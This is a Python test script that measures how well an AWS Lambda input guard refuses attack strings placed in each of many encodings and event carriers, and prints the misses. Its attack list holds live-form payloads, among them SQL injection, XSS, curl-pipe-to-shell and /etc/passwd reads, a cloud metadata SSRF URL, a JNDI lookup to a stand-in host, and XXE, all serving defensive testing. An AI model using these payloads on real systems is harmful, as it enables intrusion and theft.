#!/usr/bin/env python3
"""Where and how an attack arrives: each attack of a small set of classes, encoded as a client
or producer may encode it, placed in each carrier a trigger has; prints how many placements
`lambda-guard scan` refuses per encoding and per carrier, and every miss.

    python3 scripts/placement-sweep.py            # the matrix and its misses
    python3 scripts/placement-sweep.py --fixtures # a payload in every string leaf of the
                                                  # aws_lambda_events request fixtures

This measures the reading of events (decodings, carriers), not the detectors: every attack is
refused in its plain form in every carrier. Expected misses are printed with their reason:
base64 under 16 characters (the undeclared-base64 threshold), a JSON-escaped text in a carrier
that nothing JSON-decodes, standard base64 or `+` blanks in a path segment (the path splits at
`/`; `+` is no blank there), a log line forged in a header or an e-mail's subject (a header
value is one line: the sweep strips its line breaks), a MIME encoded word (`=?utf-8?B?…?=`)
anywhere but in an e-mail's header field.

The fixture mode lists the string leaves not refused: what AWS or the API's owner sets (ids,
ARNs, times, verdicts, stage variables), for a reviewer to confirm that none is the caller's.
Needs the CLI built (`cargo build --release -p lambda-guard-cli`).
"""
import base64
import collections
import gzip
import html
import json
import pathlib
import random
import subprocess
import sys
import unicodedata
import tempfile
import urllib.parse

from guard_scan import ROOT, scan

ATTACKS = {
    "sqli": ["1' UNION SELECT username,password FROM users--", "1 AND SLEEP(5)", "' OR 1=1--",
             "1; DROP TABLE users"],
    "xss": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "<svg onload=alert(document.cookie)>", "javascript:alert(1)"],
    "cmdi": ["; cat /etc/passwd", "| id", "$(whoami)", "`id`", "&& curl http://x.example/s | sh"],
    "traversal": ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/proc/self/environ"],
    "ssrf": ["http://169.254.169.254/latest/meta-data/",
             "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next",
             "gopher://127.0.0.1:6379/_INFO"],
    "ssti": ["{{7*7}}", "${jndi:ldap://x.example/a}",
             "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"],
    "nosqli": ['{"$where":"sleep(1000)"}', '{"$ne":null}'],
    "xxe": ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
    "log": ['admin\r\n127.0.0.1 - - [01/Jan/2025] "GET /admin HTTP/1.1" 200'],
}


def url(s):
    return urllib.parse.quote(s, safe="")


def compat_forms():
    """Per ASCII character, a non-ASCII one whose NFKC form it is, from outside the full-width
    block when there is one (`﹤`, `𝐬`, `①`, the Greek question mark for `;`)."""
    forms = {}
    for cp in range(0x80, 0x20000):
        n = unicodedata.normalize("NFKC", chr(cp))
        if len(n) == 1 and n.isascii() and n.isprintable() and n != " ":
            if n not in forms or (0xFF00 <= ord(forms[n]) <= 0xFFEF and not 0xFF00 <= cp <= 0xFFEF):
                forms[n] = chr(cp)
    return forms


COMPAT = compat_forms()


def random_case(s, rng=random.Random(7)):
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


ENCODINGS = {
    "plain": lambda s: s,
    "url": url,
    "url twice": lambda s: url(url(s)),
    "url every byte": lambda s: "".join("%%%02X" % b for b in s.encode()),
    "form (+)": urllib.parse.quote_plus,
    "json \\u escapes": lambda s: json.dumps(s)[1:-1].replace("<", "\\u003c")
    .replace(">", "\\u003e").replace("'", "\\u0027"),
    "html entities": lambda s: "".join("&#%d;" % ord(c) if c in "<>'\"()/" else c for c in s),
    "html hex entities": lambda s: "".join("&#x%x;" % ord(c) for c in s),
    "base64": lambda s: base64.b64encode(s.encode()).decode(),
    "base64url": lambda s: base64.urlsafe_b64encode(s.encode()).decode().rstrip("="),
    "gzip+base64": lambda s: base64.b64encode(gzip.compress(s.encode(), mtime=0)).decode(),
    "upper case": str.upper,
    "random case": random_case,
    "full-width": lambda s: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" and not c.isdigit()
                                    else c for c in s),
    "json in a string": lambda s: json.dumps({"v": s}),
    "\\x escapes": lambda s: "".join("\\x%02x" % b for b in s.encode()),
    "tabs for blanks": lambda s: s.replace(" ", "\t"),
    "newlines for blanks": lambda s: s.replace(" ", "\n"),
    "NFKC compatibility forms": lambda s: "".join(COMPAT.get(c, c) for c in s),
    "MIME encoded word": lambda s: "=?utf-8?B?%s?=" % base64.b64encode(s.encode()).decode(),
}


def http(path="/x", headers=None, body="", cookies=None, query=None):
    return {"version": "2.0", "routeKey": "POST /x", "rawPath": path,
            "rawQueryString": urllib.parse.urlencode(query or {}, quote_via=urllib.parse.quote),
            "queryStringParameters": query, "cookies": cookies or [],
            "headers": dict({"host": "a.example.com"}, **(headers or {})), "body": body,
            "requestContext": {"http": {"method": "POST", "path": path, "sourceIp": "198.51.100.1"},
                               "stage": "$default", "requestId": "r"},
            "isBase64Encoded": False}


def record(source, **fields):
    return {"Records": [dict({"eventSource": source, "awsRegion": "us-east-1"}, **fields)]}


def carriers(p, encoding):
    # A JSON body holds the text as JSON would carry it; `\u` escapes are JSON's own.
    in_json = p if encoding == "json \\u escapes" else json.dumps(p)[1:-1]
    b64 = base64.b64encode(p.encode()).decode()
    return {
        "SQS body": record("aws:sqs", messageId="m", body=p),
        "query": http(query={"q": p}),
        "JSON body": http(headers={"content-type": "application/json"},
                          body='{"comment":"%s"}' % in_json),
        "S3 key": record("aws:s3", s3={"bucket": {"name": "b"}, "object": {
            "key": urllib.parse.quote_plus(p, safe="/"), "size": 1}}),
        "SNS message": {"Records": [{"EventSource": "aws:sns", "Sns": {
            "Type": "Notification", "MessageId": "m", "TopicArn": "arn:aws:sns:us-east-1:1:t",
            "Subject": "s", "Message": p, "MessageAttributes": {}}}]},
        "EventBridge detail": {"version": "0", "id": "i", "detail-type": "OrderPlaced",
                               "source": "com.example.orders", "account": "1",
                               "time": "2024-01-01T00:00:00Z", "region": "us-east-1",
                               "resources": [], "detail": {"note": p}},
        "DynamoDB image": record("aws:dynamodb", eventName="INSERT", dynamodb={
            "Keys": {"id": {"S": "1"}}, "NewImage": {"id": {"S": "1"}, "note": {"S": p}},
            "StreamViewType": "NEW_IMAGE"}),
        "Kinesis data": record("aws:kinesis", kinesis={"partitionKey": "1", "data": b64,
                                                       "sequenceNumber": "1"}),
        "header": http(headers={"x-note": p.replace("\r", " ").replace("\n", " ")}),
        "cookie": http(cookies=["session=" + url(p)]),
        "path segment": http(path="/items/" + url(p)),
        "form body": http(headers={"content-type": "application/x-www-form-urlencoded"},
                          body="a=1&note=" + urllib.parse.quote_plus(p)),
        "multipart field": http(
            headers={"content-type": "multipart/form-data; boundary=XyZ"},
            body='--XyZ\r\nContent-Disposition: form-data; name="note"\r\n\r\n%s\r\n--XyZ--\r\n' % p),
        "XML element": http(headers={"content-type": "application/xml"},
                            body="<r><note>%s</note></r>" % html.escape(p)),
        "XML attribute": http(headers={"content-type": "application/xml"},
                              body='<r note="%s"/>' % html.escape(p)),
        "e-mail subject": {"Records": [{"EventSource": "aws:sns", "Sns": {
            "Type": "Notification", "MessageId": "m", "TopicArn": "arn:aws:sns:us-east-1:1:t",
            "Message": json.dumps({"notificationType": "Received", "content":
                                   "From: a@example.com\r\nSubject: %s\r\n\r\nHello\r\n"
                                   % p.replace("\r", " ").replace("\n", " ")}),
            "MessageAttributes": {}}}]},
    }


def expected(cls, encoding, carrier, encoded):
    """Why a miss is by design, or None."""
    if encoding.startswith("base64") and len(encoded) < 16:
        return "base64 under 16 characters"
    if encoding == "json \\u escapes" and carrier != "JSON body" and "\\" in encoded:
        return "JSON escapes in a carrier that nothing JSON-decodes"
    if carrier == "path segment" and encoding in ("gzip+base64", "form (+)"):
        return "a path splits at base64's `/`, and its `+` is no blank"
    if cls == "log" and carrier in ("header", "e-mail subject"):
        return "the sweep strips a header's line breaks"
    if encoding == "MIME encoded word" and carrier != "e-mail subject":
        return "encoded words where no mail parser reads a header"
    return None


def matrix(work):
    placements = []
    for cls, attacks in ATTACKS.items():
        for attack in attacks:
            for name, encode in ENCODINGS.items():
                encoded = encode(attack)
                for carrier, event in carriers(encoded, name).items():
                    placements.append((cls, attack, name, carrier, encoded, event))
    verdicts = scan([p[-1] for p in placements], work)
    by_encoding, by_carrier = collections.Counter(), collections.Counter()
    totals_e, totals_c = collections.Counter(), collections.Counter()
    misses = []
    for (cls, attack, name, carrier, encoded, _), v in zip(placements, verdicts):
        refused = v.get("verdict") == "deny"
        why = None if refused else expected(cls, name, carrier, encoded)
        counted = refused or why is None
        totals_e[name] += counted
        totals_c[carrier] += counted
        by_encoding[name] += refused
        by_carrier[carrier] += refused
        if not refused:
            misses.append((name, carrier, cls, attack, why))
    print(f"{len(placements)} placements; refused of those not excused:")
    for name in ENCODINGS:
        print(f"  {name:22} {by_encoding[name]:4} / {totals_e[name]}")
    for carrier in dict.fromkeys(p[3] for p in placements):
        print(f"  {carrier:22} {by_carrier[carrier]:4} / {totals_c[carrier]}")
    unexpected = [m for m in misses if m[4] is None]
    print(f"misses: {len(misses)}, {len(unexpected)} not excused")
    for name, carrier, cls, attack, why in sorted(misses, key=lambda m: (m[4] is not None, m)):
        print(f"  {name} / {carrier} / {cls}: {attack!r}" + (f"  ({why})" if why else ""))


def leaves(v, path=()):
    if isinstance(v, dict):
        for k, x in v.items():
            yield from leaves(x, path + (k,))
    elif isinstance(v, list):
        for i, x in enumerate(v):
            yield from leaves(x, path + (i,))
    elif isinstance(v, str):
        yield path


def fixtures(work):
    meta = json.loads(subprocess.run(
        ["cargo", "metadata", "--format-version", "1", "--locked", "--offline"], cwd=ROOT,
        capture_output=True, text=True, check=True).stdout)
    pkg = next(p for p in meta["packages"] if p["name"] == "aws_lambda_events")
    folder = pathlib.Path(pkg["manifest_path"]).parent / "src" / "fixtures"
    payload = "1' UNION SELECT password FROM users--"
    placed = []
    for f in sorted(folder.glob("*.json")):
        if "response" in f.name:
            continue
        event = json.loads(f.read_text())
        for path in leaves(event):
            copy = json.loads(json.dumps(event))
            holder = copy
            for p in path[:-1]:
                holder = holder[p]
            holder[path[-1]] = payload
            placed.append((f.name, ".".join(map(str, path)), copy))
    verdicts = scan([p[2] for p in placed], work)
    missed = collections.defaultdict(list)
    for (name, path, _), v in zip(placed, verdicts):
        if v.get("verdict") != "deny":
            missed[name].append(path)
    print(f"{len(placed)} placements in {len({p[0] for p in placed})} fixtures; "
          f"{sum(map(len, missed.values()))} not refused:")
    for name, paths in sorted(missed.items()):
        print(f"  {name}: {'  '.join(paths)}")


if __name__ == "__main__":
    with tempfile.TemporaryDirectory(dir=ROOT / "target") as work:
        (fixtures if "--fixtures" in sys.argv else matrix)(pathlib.Path(work))
